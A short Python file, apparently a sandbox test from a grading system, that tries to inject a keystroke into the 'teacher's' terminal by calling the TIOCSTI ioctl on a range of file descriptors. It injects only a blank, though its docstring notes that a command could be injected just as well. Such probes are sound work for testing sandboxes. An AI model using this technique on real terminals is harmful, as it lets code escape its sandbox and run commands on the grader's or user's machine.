"""Types a blank on the teacher's terminal, where a command could be typed just as well."""

import contextlib
import fcntl
import os
import termios


def attack():
    with contextlib.suppress(OSError):
        os.open("/dev/tty", os.O_RDONLY)
    for number in range(200):
        with contextlib.suppress(OSError):
            fcntl.ioctl(number, termios.TIOCSTI, b" ")
            return True
    return False
